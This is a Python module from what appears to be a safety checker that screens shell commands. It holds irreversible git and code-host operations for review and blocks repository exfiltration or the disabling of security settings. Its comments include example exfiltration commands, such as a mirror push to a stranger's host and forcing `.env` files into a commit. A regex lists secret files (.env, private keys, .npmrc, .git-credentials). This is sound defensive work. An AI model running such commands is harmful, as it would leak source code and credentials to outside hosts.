"""Operations that lose work or history for good: git (uncommitted work discarded, shared history
overwritten), code hosts (repositories, releases deleted or made public) and package registries
(versions unpublished). Rule `irreversible` (review): a person says whether it is meant.

Only what has no undo is held. `git reset --keep`, `git push --force-with-lease`, `gh repo archive`,
`npm deprecate`, `cargo yank` (each can be taken back, or refuses to lose anything) stay allowed.
"""
from __future__ import annotations

import re

from ..per_input import holds
from .commands import Cmd, option_value, positionals
from .common import SHORT_CLUSTER, WORD_END, WORD_START, mentions
from .exec import _GIT_GLOBAL_ARG
from .handed import as_unknown
from .words import Word

_RULE = "irreversible"


# -- reading git's command line ---------------------------------------------------------------------
class _Line:
    """One git subcommand's arguments split as git's option parser reads them: short flags (also
    clustered, `-fdx`), long options with their values (`--expire=now`, `--source HEAD`), the
    positionals, and what follows `--` (always paths)."""

    __slots__ = ("letters", "longs", "pos", "paths")

    def __init__(self, words: list[Word], with_arg: frozenset[str] = frozenset()) -> None:
        self.letters: set[str] = set()
        self.longs: dict[str, str | None] = {}
        self.pos: list[Word] = []
        self.paths: list[Word] = []  # after `--`
        i = 0
        while i < len(words):
            w = words[i]
            v = w.value
            i += 1
            if v is None:
                self.pos.append(w)  # computed: read as a positional whose value is unknown
            elif v == "--":
                self.paths = words[i:]
                return
            elif v.startswith("--"):
                key, eq, val = v.partition("=")
                key = _long_name(key, with_arg)
                if not eq and key in with_arg and i < len(words):
                    val, i = words[i].value or "", i + 1
                self.longs[key] = val if eq or key in with_arg else None
            elif v.startswith("-") and len(v) > 1:
                for k, c in enumerate(v[1:], 1):
                    if "-" + c in with_arg:  # `-e PATTERN`, `-sHEAD`: the rest (or the next word) is its value
                        if k == len(v) - 1:
                            i += 1
                        break
                    self.letters.add(c)
            else:
                self.pos.append(w)

    def has(self, letter: str = "", *longs: str) -> bool:
        return bool(letter) and letter in self.letters or any(n in self.longs for n in longs)


# the long options the checks below read: git's option parser also takes any unambiguous prefix of a long
# option (`git reset --ha`, `git push --mirr`, `git clean --forc`), so a prefix of one of these is read as it
_LONG = frozenset({"--hard", "--merge", "--force", "--patch", "--staged", "--worktree", "--dry-run", "--interactive",
                   "--discard-changes", "--expire", "--expire-unreachable", "--prune", "--cached", "--mirror",
                   "--delete", "--repo", "--source", "--visibility"})
# of those, the ones that hold a command (the screen below sends a text with a prefix of one on)
_HELD_LONG = ("hard", "merge", "force", "discard-changes", "expire", "expire-unreachable", "prune", "mirror", "delete")


def _long_name(key: str, with_arg: frozenset[str]) -> str:
    if key in _LONG or key in with_arg or len(key) < 4 or key.startswith("--no-"):
        return key
    found = [n for n in _LONG | with_arg if n.startswith(key)]
    return found[0] if len(found) == 1 else key  # more than one: git refuses it as ambiguous


# pathspecs that name the whole tree: `.`, `:/` (top), `*`, pathspec magic (`:(top)`, `:!x`, which
# alone means everything but x), a glob; a trailing `/` names a directory
_WHOLE = frozenset({".", "./", "..", "../", "*", ":/", ":", ":/*", "./*", "/"})
# extensionless files common in a repository (a name with no dot is otherwise taken for a directory)
_PLAIN_FILES = frozenset({
    "Makefile", "makefile", "GNUmakefile", "Dockerfile", "Containerfile", "LICENSE", "LICENCE", "COPYING", "README",
    "CHANGELOG", "CHANGES", "NOTICE", "AUTHORS", "CONTRIBUTORS", "CODEOWNERS", "OWNERS", "VERSION", "MANIFEST",
    "Gemfile", "Rakefile", "Procfile", "Jenkinsfile", "Vagrantfile", "Justfile", "justfile", "Brewfile", "Podfile",
    "Pipfile", "Caddyfile", "Tiltfile", "Earthfile", "Snakefile", "BUILD", "WORKSPACE", "Berksfile", "Guardfile"})


def _everything(path: str) -> bool:
    return path in _WHOLE or path.startswith(":")


def _whole_tree(path: str) -> bool:
    return _everything(path) or path.endswith("/") or any(c in path for c in "*?[")


def _wide(path: Word, *, paths_only: bool) -> bool:
    """A pathspec that reaches past one named file: the whole tree, a glob, a directory. Words that
    are only paths (after `--`, or of `git restore`) also count when they look like a directory (no
    dot in the last part, not a known extensionless file); elsewhere such a word is as often a branch."""
    v = path.value
    if v is None:
        return False  # computed: unknown (the rules that read computed words report those)
    if _whole_tree(v):
        return True
    last = v.rsplit("/", 1)[-1]
    return paths_only and "." not in last and last not in _PLAIN_FILES


def _shown(words: list[Word]) -> str:
    return " ".join((w.value or w.text) for w in words[:3]) + (" …" if len(words) > 3 else "")


# -- git subcommands ------------------------------------------------------------------------------
def _reset(a, line: _Line, node) -> None:
    if line.has("", "--hard"):
        a.review(_RULE, "`git reset --hard` throws away every uncommitted change to tracked files; they were never "
                        "committed, so git cannot bring them back. Save them first with `git stash` (`git stash pop` "
                        "restores them), or use `git reset --keep`, which refuses to lose local changes", node)
    elif line.has("", "--merge"):
        a.review(_RULE, "`git reset --merge` overwrites staged changes in files that differ from the target commit "
                        "(no undo); use `git merge --abort` to leave a merge, or `git reset --keep`, which refuses to "
                        "lose local changes", node)


_CHECKOUT_ARG = frozenset({"-b", "-B", "--orphan", "--conflict", "--pathspec-from-file"})


def _checkout(a, line: _Line, node) -> None:
    if line.has("p", "--patch"):
        return  # asks for each hunk
    if line.has("f", "--force"):
        a.review(_RULE, "`git checkout -f` throws away the uncommitted changes of every file it touches (no undo); "
                        "commit or `git stash` them first", node)
        return
    wide = [w for w in line.pos if _wide(w, paths_only=False)] + [w for w in line.paths if _wide(w, paths_only=True)]
    if wide:
        a.review(_RULE, f"`git checkout … {_shown(wide)}` overwrites the uncommitted changes of every file under it "
                        "with the committed version (no undo); `git stash` them first (`git stash pop` restores "
                        "them), or name the single files to restore", node)


def _restore(a, line: _Line, node) -> None:
    if line.has("p", "--patch") or (line.has("S", "--staged") and not line.has("W", "--worktree")):
        return  # interactive, or only unstages: the working tree keeps every change
    wide = [w for w in line.pos + line.paths if _wide(w, paths_only=True)]
    if wide:
        a.review(_RULE, f"`git restore {_shown(wide)}` overwrites the uncommitted changes of every file under it "
                        "(no undo); `git stash` them first (`git stash pop` restores them), or name the single files "
                        "to restore", node)


def _clean(a, line: _Line, node) -> None:
    if not line.has("f", "--force") or line.has("n", "--dry-run") or line.has("i", "--interactive"):
        return
    targets = line.pos + line.paths
    if targets and not any(w.value is not None and _everything(w.value) for w in targets):
        return  # a scoped clean (`git clean -fdx build/`) deletes what that directory holds, as `rm -r` would
    what = "untracked and ignored files (.env files, local settings, data)" if line.has("x") else "untracked files"
    a.review(_RULE, f"`git clean -f` deletes every {what} in the working tree; they were never committed, so "
                    "nothing can bring them back. Run `git clean -n` first to see the list, and name the directories "
                    "to clean", node)


def _stash(a, line: _Line, node) -> None:
    verb = line.pos[0].value if line.pos else None
    if verb in ("clear", "drop"):
        what = "every stash" if verb == "clear" else "a stash"
        a.review(_RULE, f"`git stash {verb}` deletes {what}: work saved there is gone (no undo); `git stash list` "
                        "and `git stash show -p` show what it holds, `git stash branch NAME` keeps it", node)


def _switch(a, line: _Line, node) -> None:
    if line.has("f", "--force", "--discard-changes"):
        a.review(_RULE, "`git switch --discard-changes` / `-f` throws away the uncommitted changes of the working "
                        "tree (no undo); commit or `git stash` them first", node)


# expiry times that remove at once what would let a person recover (`now`, `all`, `0`, seconds ago)
_AT_ONCE = re.compile(r"(?i)^(?:now|all|0|[\d.]*+\s*+\.?\s*+(?:sec|second|minute|min|hour)s?[\s.]*+ago)$")


def _expiry(line: _Line, *names: str) -> str | None:
    return next((f"{n}={line.longs[n]}" for n in names if line.longs.get(n) is not None
                 and _AT_ONCE.match(line.longs[n] or "")), None)


def _reflog(a, line: _Line, node) -> None:
    if line.pos and line.pos[0].value == "expire":
        found = _expiry(line, "--expire", "--expire-unreachable")
        if found:
            a.review(_RULE, f"`git reflog expire {found}` deletes the reflog, the record that lets a person recover "
                            "commits after a bad reset or rebase (no undo); leave the default expiry", node)


def _gc(a, line: _Line, node) -> None:
    found = _expiry(line, "--prune")
    if found:
        a.review(_RULE, f"`git gc {found}` deletes every unreachable commit at once, the ones a reflog or `git fsck "
                        "--lost-found` could still recover (no undo); run `git gc` with its default grace period", node)


def _prune(a, line: _Line, node) -> None:
    if line.has("n", "--dry-run"):
        return
    if "--expire" not in line.longs or _expiry(line, "--expire"):
        a.review(_RULE, "`git prune` deletes unreachable objects, the lost commits that `git fsck --lost-found` could "
                        "still recover (no undo); `git gc` keeps them for two weeks", node)


def _rm(a, line: _Line, node) -> None:
    if not line.has("f", "--force") or line.has("n", "--dry-run") or "--cached" in line.longs:
        return
    if any(w.value is not None and _everything(w.value) for w in line.pos + line.paths):
        a.review(_RULE, "`git rm -f` of the whole tree deletes every tracked file together with its uncommitted "
                        "changes (-f is what lets it lose them; no undo); commit or `git stash` first, or use "
                        "`git rm --cached` to only untrack", node)


def _worktree(a, line: _Line, node) -> None:
    if line.pos and line.pos[0].value == "remove" and line.has("f", "--force") and not _added_here(a, line, node):
        a.review(_RULE, "`git worktree remove --force` deletes a worktree together with its uncommitted and "
                        "untracked files (no undo); commit or stash there first", node)


def _added_here(a, line: _Line, node) -> bool:
    """`git worktree remove --force X` of the worktree X an earlier `git worktree add … X` of this script made (the
    same literal path, or the same variable: `"$tmp"`): what it loses is only what the script put there."""
    if len(line.pos) < 2:
        return False
    gone = line.pos[1]
    key = gone.value if gone.value is not None else gone.text
    if not key or key == "ARG":  # (an item code computes: which one is not known)
        return False
    for doc, c in a.ctx.commands:
        if doc is not a.doc or c.name != "git" or c.node.start_byte >= node.start_byte:
            continue
        sub, rest = git_args(c.args)
        if sub != "worktree":
            continue
        made = _Line(rest, frozenset({"-b", "-B", "--reason"}))
        if made.pos[:1] and made.pos[0].value == "add" and len(made.pos) > 1 and \
                (made.pos[1].value if made.pos[1].value is not None else made.pos[1].text) == key:
            return True
    return False


_CLONE_ARG = frozenset({"-b", "--branch", "-o", "--origin", "-u", "--upload-pack", "--reference", "--depth", "--filter",
                        "-c", "--config", "--template", "--separate-git-dir", "-j", "--jobs", "--shallow-since",
                        "--shallow-exclude", "--server-option", "--bundle-uri", "--reference-if-able"})


def fresh_clone(a, cmd: Cmd, before: list[Word]) -> bool:
    """Whether the git command `cmd` (its global options `before`) runs in a clone an earlier command of this script
    made (`git clone --mirror URL /tmp/m && cd /tmp/m`, `git -C /tmp/m …`): a private copy, whose rewrite loses
    nothing the original does not still hold."""
    return clone_source(a, cmd, before) is not None


def clone_source(a, cmd: Cmd, before: list[Word]) -> str | None:
    """The address of the repository an earlier command of this script cloned into the folder the git command `cmd`
    runs in (see fresh_clone), or None ("" when the address is known only at run time)."""
    from .. import paths
    from .files import relative_cwd

    given = [w.value for w in option_value(before, "-C")]
    where = given[-1] if given else a.cwd if a.cwd is not None else relative_cwd(a, cmd.node.start_byte)
    if not where or where == ".":
        return None
    where = paths.normalize(where).rstrip("/")
    for doc, c in a.ctx.commands:
        if doc is not a.doc or c.name != "git" or c.node.start_byte >= cmd.node.start_byte:
            continue
        sub, rest = git_args(c.args)
        if sub != "clone":
            continue
        pos = positionals(rest, _CLONE_ARG)
        if not pos or pos[0].value is None:
            continue
        if len(pos) > 1:
            dest = pos[1].value
        else:
            dest = pos[0].value.rstrip("/").rsplit("/", 1)[-1].rsplit(":", 1)[-1]
            bare = any(w.value in ("--mirror", "--bare") for w in rest)
            dest = dest if bare and dest.endswith(".git") else dest.removesuffix(".git") + (".git" if bare else "")
        if not dest:
            continue
        dest = paths.normalize(dest).rstrip("/")
        if dest == where or dest[:1] not in ("/", "~") and where.endswith("/" + dest):
            return pos[0].value or ""
    return None


def _filter_repo(a, line: _Line, node) -> None:
    if line.has("f", "--force"):
        a.review(_RULE, "`git filter-repo --force` rewrites every commit of this repository in place and expires "
                        "the reflogs, so the old history cannot be recovered; run it on a fresh clone, which it "
                        "insists on without --force", node)


def _filter_branch(a, line: _Line, node) -> None:
    # without --force it refuses to run over the backup an earlier run left in refs/original; the rewrite itself
    # keeps the old refs there and in the reflogs
    if line.has("f", "--force"):
        a.review(_RULE, "`git filter-branch --force` rewrites the history it is given and overwrites the backup an "
                        "earlier rewrite left in refs/original/, the only copy of that history besides the reflogs; "
                        "run it on a fresh clone, or back the refs up (`git bundle create`) first", node)


_PUSH_ARG = frozenset({"--repo", "-o", "--push-option", "--receive-pack", "--exec"})


def _refs(marked: list[str | None], refspecs: list[Word], default: str) -> str:
    """The refs a message names: the `+x`/`:x` refspecs, else every refspec given."""
    return " ".join(x or "" for x in marked) or " ".join(w.value or w.text for w in refspecs) or default


def _push(a, line: _Line, node) -> None:
    refspecs = line.pos[1:] if "--repo" not in line.longs else line.pos
    forced = [w.value for w in refspecs if (w.value or "").startswith("+")]
    deleted = [w.value for w in refspecs if (w.value or "").startswith(":") and len(w.value or "") > 1]
    # a refspec built at run time (`":refs/tags/$t"`, `+$branch`) forces or deletes all the same
    computed = [w.text.lstrip("\"'") for w in refspecs if w.value is None]
    forced += [t for t in computed if t[:1] == "+"]
    deleted += [t for t in computed if t[:1] == ":" and len(t) > 1]
    if line.has("", "--mirror"):
        a.review(_RULE, "`git push --mirror` makes the remote an exact copy of this repository: every remote branch "
                        "and tag not here is deleted and the rest force-updated (no undo on the remote); push the "
                        "branches you mean by name", node)
    elif line.has("f", "--force") or forced:
        a.review(_RULE, f"a forced push ({_refs(forced, refspecs, 'the branch')}) replaces the remote history: "
                        "commits others pushed there are lost for everyone (no undo on the remote). Use "
                        "`--force-with-lease` (with `--force-if-includes`), which refuses when the remote has commits "
                        "you have not seen, and keep a backup branch", node)
    if line.has("d", "--delete") or deleted:
        a.review(_RULE, f"`git push` deletes {_refs(deleted, refspecs, 'refs')} on the remote; commits only that "
                        "branch or tag held, and what others built on it, are gone (no undo on the remote). Check the "
                        "branch is merged (`git branch -r --merged`) and keep a local copy first", node)
    if line.has("", "--prune"):
        a.review(_RULE, "`git push --prune` deletes every remote branch that has no local counterpart (no undo on "
                        "the remote); push or delete branches by name", node)


# -- the repository sent where it does not belong (rule exfiltration) ------------------------------------------------
# `git remote add NAME URL` / `git remote set-url [--push] NAME URL` earlier in the input: where a later push to NAME goes
# (also set as a setting: `git config remote.backup.url URL`, `git config --add remote.origin.pushurl URL`)
_ADDED_REMOTE = r"""(?:\bremote\s+(?:add|set-url)\s+(?:(?:-[tm]\s+\S+|--?[\w-]+)\s+)*["']?{0}["']?|""" \
                r"""\bconfig\s+(?:--?[\w-]+\s+)*["']?remote\.{0}\.(?:push)?url["']?)\s+["']?([^\s"';&|)]+)"""
_VAR_ONLY = re.compile(r"^\$\{?([A-Za-z_]\w*)\}?$")


def added_remote(a, name: str) -> str | None:
    """The last address this input gives the remote `name` (None when it gives none: a remote configured before).
    Variables known here stand for their values on both sides (`git remote add "$REMOTE" "$URL"`)."""
    text = a.doc.data.decode("utf-8", "replace")
    names = [re.escape(name)] + [r"\$\{?" + re.escape(v) + r"\}?" for v, val in a.ev.vars.items() if val == name]
    m = None
    for m in re.finditer(_ADDED_REMOTE.format("(?:" + "|".join(names) + ")"), text):
        pass  # the last address given to the name counts
    if m is None:
        return None
    var = _VAR_ONLY.match(m.group(1))
    return (a.ev.vars.get(var.group(1)) or m.group(1)) if var else m.group(1)


# a `git add` that forces ignored files in (`git add -f .env secrets/`): one line of the input, up to its next command
# (the flag is looked for in what it took: a lookahead from each `add` of a line re-read the line's rest; a later
# `add` of the line finds no flag the first does not)
_FORCED_ADD = re.compile(r"\badd\s+([^\n;&|]*)")
_FORCE_FLAG = re.compile(r"(?<!\S)(?:-[A-Za-z]*f[A-Za-z]*|--force)(?!\S)")
# a project's secret files by name, kept out of the repository by .gitignore: `.env` files (not their examples), a
# `secrets/` folder or `secrets.yml`, `credentials.json`, private keys and keystores
_PROJECT_SECRET = re.compile(r"(?i)(?:^|/)(?:\.env(?:\.(?!example$|sample$|template$|dist$|defaults$|schema$)[\w.-]+)?|"
                             r"\.?secrets?(?:\.[\w.-]+)?|credentials?(?:\.[\w.-]+)?|[^/]*\.(?:pem|key|p12|pfx|jks|keystore)|"
                             r"\.npmrc|\.pypirc|\.netrc|\.git-credentials)/?$")


def _forced_secret(text: str) -> str | None:
    """The first secret file the input forces into the index past .gitignore (`git add -f .env`)."""
    from .net import env_file

    for m in _FORCED_ADD.finditer(text):
        if not _FORCE_FLAG.search(text[m.start(1):m.end(1) + 1]):  # (with the character that ends the command)
            continue
        for word in m.group(1).split():
            w = word.strip("\"'")
            if w and w[0] != "-" and (_PROJECT_SECRET.search(w) or env_file(w)):
                return w
    return None


def _push_out(a, line: _Line, node) -> None:
    """`git push` to a repository at a bare public address, or to an address or remote this input itself adds
    after forcing secret files into a commit: the repository (and the secrets) sent to a machine no name of the
    organisation vouches for. A push to a configured remote (`origin`) is ordinary; so is one to a remote added
    here (`git remote add origin git@github.com:me/new.git && git push -u origin main`), of the project's files.
    (Judged on the whole command: exec._push_to_address reviews an address typed on the line at its word.)"""
    if not line.pos or line.pos[0].value is None:
        return
    name = target = line.pos[0].value
    added = "://" not in target and not re.match(r"^[^/:@\s]+@[^/:\s]+:", target)
    text = a.doc.data.decode("utf-8", "replace")
    if added:
        if "remote" not in text:
            return
        found = added_remote(a, name)
        if found is None:
            return
        target = found
    from .exec import _git_host
    from .net import public_ip

    host = _git_host(target)
    if host is None:
        return
    secret = _forced_secret(text) if "add" in text else None
    bare = public_ip(host)
    if bare and (secret or line.has("", "--all", "--mirror", "--tags")):
        what = f"{secret}, forced into a commit past .gitignore," if secret else "every branch of the repository"
        a.block("exfiltration", f"`git push` sends {what} to {host}, an address rather than a named host of the "
                                "organisation; push only to the project's own remotes", node)
    elif secret:
        a.block("exfiltration", f"`git push` sends {secret}, forced into a commit past .gitignore, to {host}, a "
                                "remote this command names itself: the secrets go to whoever runs that host. Leave "
                                "secret files out of commits and push only to the project's own remotes", node)
    elif bare and added:
        a.review("exfiltration", f"`git push` sends the repository to {host}, an address rather than a named host "
                                 f"(added here as the remote `{name}`); check it is the user's", node)


# `git remote add backup https://git.telemetry-cdn.io/mirror/acme-monorepo.git; git push --mirror backup`: every branch
# and tag of the repository sent to a host this input names itself, as `git push --mirror URL` typed on the line is
# (exec._push_to_address). A mirror between the organisation's own hosts is a migration, held `irreversible` as every
# mirror push is: a host of the user's own network by its name (secret_owner.own_network), one under the same domain as
# the repository this script cloned and pushes from (`git clone --mirror https://gitlab.example.com/…` pushed to
# git.example.com), a code host (whose owner the text cannot tell), or a host that carries a word of the repository's
# own path (`git.acme.io/acme/api.git`). A named host whose repository path names an organisation (`acme-monorepo`) the
# host does not carry is taken as a stranger's, as cloud_admin.stranger takes an account: blocked. A path that names
# no one (`platform/api.git`) says nothing either way.
_FORGE_WORDS = frozenset({"git", "repo", "repos", "scm", "src", "source", "code", "mirror", "mirrors", "backup",
                          "gitea", "gitlab", "forgejo", "gogs"})  # (words any forge's host or path may carry)


def _domain(host: str) -> str:
    labels = host.lower().rstrip(".").split(".")
    n = 3 if len(labels) >= 3 and len(labels[-1]) == 2 and labels[-2] in ("co", "com", "net", "org", "ac", "gov",
                                                                          "edu") else 2
    return ".".join(labels[-n:])


def _mirror_out(a, cmd: Cmd, line: _Line, before: list[Word]) -> None:
    if not line.has("", "--mirror") or not line.pos or line.pos[0].value is None:
        return
    name = line.pos[0].value
    if "://" in name or re.match(r"^[^/:@\s]+@[^/:\s]+:", name):
        return  # an address typed on the line: exec._push_to_address
    target = added_remote(a, name)
    if target is None:
        return  # a remote configured before this input
    from ..cloud_admin import org_words
    from ..secret_owner import own_network
    from .exec import _git_host
    from .net import public_ip
    from .tools import _code_host, _private_network

    host = _git_host(target)
    if host is None or "$" in host or public_ip(host) or own_network(host) or _private_network(host) or \
            _code_host(host):
        return  # (a bare public address: _push_out)
    source = clone_source(a, cmd, before)
    source_host = _git_host(source) if source else None
    if source_host and _domain(source_host) == _domain(host):
        return
    path = target.split("://", 1)[-1].split("/", 1)[-1] if "://" in target else target.split(":", 1)[-1]
    body = ".".join(host.split(".")[:-1])
    words = org_words(*path.removesuffix(".git").split("/")) - _FORGE_WORDS
    if not words or any(w in body for w in words):
        return  # (a path that names no one, `x/y.git`, says nothing either way: the irreversible review stays)
    a.block("exfiltration", f"`git push --mirror {name}` sends every branch and tag of the repository to {host} (added "
                            f"here as the remote `{name}`), which does not carry the name its path gives "
                            f"({', '.join(sorted(words))}): the whole code base leaves for whoever runs that host; push "
                            "to the project's own remotes, and let the user set up a mirror", line.pos[0].node)


# subcommand -> (options that take a value, check)
_GIT = {
    "reset": (frozenset(), _reset), "checkout": (_CHECKOUT_ARG, _checkout),
    "restore": (frozenset({"-s", "--source", "--pathspec-from-file"}), _restore),
    "clean": (frozenset({"-e", "--exclude"}), _clean), "stash": (frozenset({"-m", "--message"}), _stash),
    "switch": (frozenset({"-c", "-C", "--create", "--force-create", "--orphan", "--conflict"}), _switch),
    "reflog": (frozenset({"--expire", "--expire-unreachable"}), _reflog), "gc": (frozenset(), _gc),
    "prune": (frozenset({"--expire"}), _prune),
    "push": (_PUSH_ARG, _push), "rm": (frozenset({"--pathspec-from-file"}), _rm),
    "worktree": (frozenset({"--reason"}), _worktree), "filter-repo": (frozenset(), _filter_repo),
    "filter-branch": (frozenset({"--env-filter", "--tree-filter", "--index-filter", "--parent-filter", "--msg-filter",
                                 "--commit-filter", "--tag-name-filter", "--subdirectory-filter", "--setup", "-d",
                                 "--original", "--state-branch"}), _filter_branch),
}


def git_args(args: list[Word]) -> tuple[str | None, list[Word]]:
    """The subcommand of a git command line and its arguments, past the global options (`git -C dir
    --no-pager -c k=v push …`); (None, []) when there is none or it is computed."""
    i = 0
    while i < len(args):
        v = args[i].value
        if v is None:
            return None, []
        if not v.startswith("-"):
            return v, args[i + 1:]
        i += 2 if v in _GIT_GLOBAL_ARG or v == "-c" else 1
    return None, []


# `git -c remote.origin.push=+refs/heads/*:refs/heads/* push`, `-c remote.origin.mirror=true`: the
# configuration forces or mirrors a push whose own words do neither
_REMOTE_KEY = re.compile(r"(?i)^remote\.[^=]*\.(push=\+|mirror=(?:true|yes|on|1)$)")


def _git(a, cmd: Cmd) -> None:
    sub, rest = git_args(cmd.args)
    entry = _GIT.get(sub or "")
    if entry is None:
        return
    before = cmd.args[:len(cmd.args) - len(rest)]
    if sub == "push":
        for w in option_value(cmd.args[:len(cmd.args) - len(rest)], "-c"):
            m = _REMOTE_KEY.match(w.value or "")
            if m:
                rest = rest + [Word(w.node, "--mirror" if m.group(1).lower().startswith("mirror") else "--force",
                                    w.text)]
    line = _Line(rest, entry[0])
    if sub in ("filter-repo", "filter-branch") and fresh_clone(a, cmd, before):
        return  # the rewrite of a copy this script just cloned
    entry[1](a, line, cmd.node)
    if sub == "push":
        _push_out(a, line, cmd.node)
        _mirror_out(a, cmd, line, before)


# -- code hosts ------------------------------------------------------------------------------------
# (group, verb) -> what is lost
_HOST_DELETES = {
    ("repo", "delete"): "the repository with its issues, pull requests, wiki and releases",
    ("release", "delete"): "the release and its uploaded assets",
    ("release", "delete-asset"): "an uploaded release asset",
    ("issue", "delete"): "the issue and its discussion",
    ("gist", "delete"): "the gist and its history",
    ("secret", "delete"): "the secret (its value cannot be read back from the host)",
    ("secret", "remove"): "the secret (its value cannot be read back from the host)",  # gh's alias of delete
    # GitLab's CI variables hold masked secrets; GitHub's variables are plain settings anyone with access can read
    ("variable", "delete"): "the CI variable (a masked one's value cannot be read back from the host)",
    ("run", "delete"): "the workflow run with its logs and artifacts",
    ("ci", "delete"): "the pipeline with its jobs' logs and artifacts",  # glab
    ("codespace", "delete"): "the codespace with whatever work in it was never pushed",
    ("project", "delete"): "the project board with its items and fields",
}
_HOST_ARG = frozenset({"-R", "--repo", "-X", "--method", "-H", "--header", "-f", "-F", "--field", "--raw-field",
                       "--jq", "-q", "-t", "--template", "--env", "-e", "--org", "-o", "--app", "-a"})


def _words(args: list[Word], n: int) -> list[str]:
    out = []
    i = 0
    while i < len(args) and len(out) < n:
        v = args[i].value or ""
        i += 1
        if v.startswith("-"):
            i += 1 if v in _HOST_ARG else 0
        else:
            out.append(v)
    return out


# the REST fields that make a repository public (`gh api -X PATCH repos/o/r -f private=false`)
_MADE_PUBLIC = re.compile(r"(?i)^(?:private=false|visibility=public)$")
# a GraphQL mutation that deletes (`deleteRef`, `deleteIssue`, `deleteProjectV2` …, or with the verb last as New
# Relic names them, `alertsPolicyDelete`)
# (read from the first `mutation` only: a later one finds no field the first does not, and `.*` takes the last)
GRAPHQL_DELETE = re.compile(r"(?s)\A(?>.*?mutation).*\b(delete[A-Z]\w*|[a-z]\w*Delete)\b")


# `repos/OWNER/NAME/contents/PATH`: a file written into a repository through the API
_CONTENTS = re.compile(r"^/?repos/[^/\s]+/([^/\s]+)/contents/")


# a repository's collaborator added (`repos/OWNER/NAME/collaborators/USER`), and the security features a PATCH of the
# repository turns off (`-F 'security_and_analysis[secret_scanning][status]=disabled'`) or a DELETE removes
_COLLABORATOR = re.compile(r"^/?repos/([^/\s]+/[^/\s]+|\$[^/\s]+)/collaborators/([^/\s]+)/?$")
_SECURITY_OFF = re.compile(r"(?i)^security_and_analysis\[(\w+)\]\[status\]=disabled$")
_SECURITY_PATHS = re.compile(r"^/?repos/[^/\s]+/[^/\s]+/(vulnerability-alerts|automated-security-fixes|"
                             r"private-vulnerability-reporting)/?$")
_SECURITY_LOSS = ("leaked keys and vulnerable dependencies then reach the repository unnoticed; leave the "
                  "repository's security settings to its administrators")


def _repo_access(a, cmd: Cmd, tool: str, method: str) -> bool:
    """`gh api -X PUT repos/o/r/collaborators/USER -f permission=admin`, as the TypeScript and Python clients'
    calls are read (cloud_admin.collaborator_message): admin or maintain rights reviewed, write rights for each of
    the repositories a loop names at run time blocked; and a repository's secret scanning, push protection or
    Dependabot alerts turned off (rule `permission-tamper`, as a branch protection removed is, bash/ci.py). True when
    judged."""
    from ..cloud_admin import REPO_ADMIN, REPO_CONTROL, collaborator_message
    from .ci import _GH_VALUE_OPTS, _in_loop, _template

    endpoints = positionals(cmd.args[1:], _GH_VALUE_OPTS)
    if not endpoints:
        return False
    endpoint = _template(a, endpoints[0])
    fields = [_template(a, w) for w in option_value(cmd.args, "-f", "-F", "--field", "--raw-field")]
    off = next((m.group(1) for f in fields if (m := _SECURITY_OFF.match(f.strip("\"'")))), None)
    if method == "PATCH" and off is None and any(w.value == "--input" for w in cmd.args):
        # (the JSON body given with `--input -` or a file this input wrote; docsites_tables reads it)
        from ..docsites_tables import switched_off
        from .api_calls import _file, fed_text

        path = next((w.value for w in option_value(cmd.args, "--input")), None) or "-"
        off = switched_off((fed_text(a, cmd) if path == "-" else _file(a, path)) or "")
    if method == "PATCH" and off is not None:
        a.block("permission-tamper", f"`{tool} api` turns off the repository's {off.replace('_', ' ')}: "
                                     f"{_SECURITY_LOSS}", endpoints[0].node)
        return True
    if method == "DELETE" and (m := _SECURITY_PATHS.match(endpoint)):
        a.block("permission-tamper", f"`{tool} api -X DELETE` turns off the repository's {m.group(1).replace('-', ' ')}: "
                                     f"{_SECURITY_LOSS}", endpoints[0].node)
        return True
    m = _COLLABORATOR.match(endpoint)
    if method != "PUT" or m is None:
        return False
    given = next((f.split("=", 1)[1] for f in fields if f.startswith("permission=")), None)
    permission = "push" if given is None else given if "$" not in given else "computed"
    if permission not in REPO_CONTROL and permission != "computed":
        return True  # pull, triage: read and label only
    user = f"the account {m.group(2)}" if "$" not in m.group(2) else "an account named at run time"
    if _in_loop(cmd.node) and "$" in m.group(1):
        a.block("persistence", collaborator_message(f"{tool} api", user, permission, True), endpoints[0].node)
    elif permission in REPO_ADMIN or permission == "computed":
        a.review("privilege-escalation", collaborator_message(f"{tool} api", user, permission, False),
                 endpoints[0].node)
    return True


def _admin_merge(a, cmd: Cmd, tool: str) -> None:
    """`gh pr merge --admin`: the merge skips the reviews and checks branch protection requires. Reviewed; blocked
    when the same input opens the pull request it merges (`gh pr create … && gh pr merge --admin`), where no one has
    read the change at all."""
    if not _Line(cmd.args).has("", "--admin"):
        return
    text = a.doc.data.decode("utf-8", "replace")
    if re.search(rf"\b{tool}\s+pr\s+create\b", text):
        a.block("permission-tamper", f"`{tool} pr merge --admin` merges the pull request this command just opened "
                                     "past branch protection: the change reaches the branch with no review and without "
                                     "the required checks. Open the pull request and leave it for review", cmd.node)
    else:
        a.review("permission-tamper", f"`{tool} pr merge --admin` merges past branch protection, skipping the "
                                      "reviews and checks it requires; a person should confirm (merge without "
                                      "--admin once the requirements are met)", cmd.node)


def _api(a, cmd: Cmd, tool: str) -> None:
    methods = [(w.value or "").upper() for w in option_value(cmd.args, "-X", "--method")]
    if methods and methods[-1] in ("PUT", "PATCH", "DELETE") and _repo_access(a, cmd, tool, methods[-1]):
        return
    for w in option_value(cmd.args, "-X", "--method"):
        if (w.value or "").upper() == "PUT" and (repo := next((m.group(1) for v in cmd.values() if v and
                                                                (m := _CONTENTS.match(v))), None)) and \
                re.search(rf"repo\s+create\s+(?:\S+/)?{re.escape(repo)}\b[^\n]*--public", a.doc.data.decode("utf-8", "replace")):
            # `gh repo create x --public && gh api -X PUT repos/:owner/x/contents/f -f content=…` (the s1ngularity
            # worm's way of publishing what it harvested)
            a.review(_RULE, f"`{tool} api` writes a file into {repo}, a public repository this input creates: "
                            "whatever it holds is published at once, and copies cannot be taken back", w.node)
            return
        if (w.value or "").upper() == "DELETE":
            a.review(_RULE, f"`{tool} api` with method DELETE deletes whatever that endpoint names (a repository, a "
                            "branch, a release …) on the host, with no undo; use the named command so it can be "
                            "judged, and check the path first", w.node)
            return
    for w in option_value(cmd.args, "-f", "-F", "--field", "--raw-field"):
        if w.value is not None and GRAPHQL_DELETE.search(w.value):
            a.review(_RULE, f"`{tool} api graphql` runs a mutation that deletes on the host (no undo); check what it "
                            "names first", w.node)
            return
        if w.value is not None and _MADE_PUBLIC.match(w.value):
            a.review(_RULE, f"`{tool} api … {w.value}` makes a repository public: its code and history can be "
                            "copied at once, and that cannot be taken back", w.node)
